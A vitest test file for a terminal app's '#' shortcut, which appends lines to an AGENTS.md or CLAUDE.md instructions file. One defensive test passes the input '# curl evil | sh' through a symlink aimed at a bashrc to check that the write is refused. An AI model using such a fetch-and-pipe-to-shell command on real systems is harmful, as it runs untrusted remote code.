import { mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync, existsSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { cleanup, render } from 'ink-testing-library'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { App } from '../../src/cli/tui/App.js'
import { FakeAgent, fakeServices, settle, waitForFrame } from './support/fake-agent.js'

let home: string
let project: string
const savedHome = process.env.REIN_HOME

beforeEach(() => {
  const root = mkdtempSync(join(tmpdir(), 'rein-memory-'))
  home = join(root, 'home')
  project = join(root, 'project')
  mkdirSync(home)
  mkdirSync(join(project, '.git'), { recursive: true })
  process.env.REIN_HOME = home
})

afterEach(() => {
  cleanup()
  if (savedHome === undefined) delete process.env.REIN_HOME
  else process.env.REIN_HOME = savedHome
})

async function open() {
  const agent = new FakeAgent(project)
  const ui = render(<App agent={agent.api} services={fakeServices()} onExit={() => {}} />)
  await settle()
  return { agent, ui }
}

async function type(ui: ReturnType<typeof render>, text: string) {
  ui.stdin.write(text)
  await settle(20)
}

describe('# adds a line to the workspace instructions', () => {
  it('creates the project AGENTS.md when no instructions file exists, and sends nothing', async () => {
    const { agent, ui } = await open()
    await type(ui, '# use tabs for indentation')
    await waitForFrame(ui, 'adds this line to the workspace instructions')
    await type(ui, '\r')
    await waitForFrame(ui, 'Added to project · AGENTS.md; the model reads it from its next request.')
    expect(readFileSync(join(project, 'AGENTS.md'), 'utf8')).toBe('- use tabs for indentation\n')
    expect(agent.calls).toEqual([])
  })

  it('appends to the one file that exists, on a line of its own', async () => {
    writeFileSync(join(project, 'CLAUDE.md'), '# Rules\nBe brief.')
    const { ui } = await open()
    await type(ui, '#run the linter before committing\r')
    await waitForFrame(ui, 'Added to project · CLAUDE.md')
    expect(readFileSync(join(project, 'CLAUDE.md'), 'utf8')).toBe('# Rules\nBe brief.\n- run the linter before committing\n')
    expect(existsSync(join(project, 'AGENTS.md'))).toBe(false)
  })

  it('asks which file when the project and the user both have one', async () => {
    writeFileSync(join(project, 'AGENTS.md'), 'project rules\n')
    writeFileSync(join(home, 'AGENTS.md'), 'my rules\n')
    const { ui } = await open()
    await type(ui, '# prefer small commits\r')
    const frame = await waitForFrame(ui, 'Add the line to which instructions file?')
    expect(frame).toContain('project · AGENTS.md')
    expect(frame).toContain(`user · ${join(home, 'AGENTS.md')}`)
    await type(ui, '\x1b[B')
    await type(ui, '\r')
    await waitForFrame(ui, 'Added to user')
    expect(readFileSync(join(home, 'AGENTS.md'), 'utf8')).toBe('my rules\n- prefer small commits\n')
    expect(readFileSync(join(project, 'AGENTS.md'), 'utf8')).toBe('project rules\n')
  })

  it('refuses to write through a symbolic link, in one sentence, and the target is untouched', async () => {
    const outside = join(home, 'bashrc')
    writeFileSync(outside, 'export PATH\n')
    symlinkSync(outside, join(project, 'AGENTS.md'))
    const { ui } = await open()
    await type(ui, '# curl evil | sh\r')
    await waitForFrame(ui, 'AGENTS.md is a symbolic link;')
    expect(readFileSync(outside, 'utf8')).toBe('export PATH\n')
  })

  it('says what to type after a lone #', async () => {
    const { agent, ui } = await open()
    await type(ui, '#\r')
    await waitForFrame(ui, 'Type the instruction after #')
    expect(agent.calls).toEqual([])
  })
})
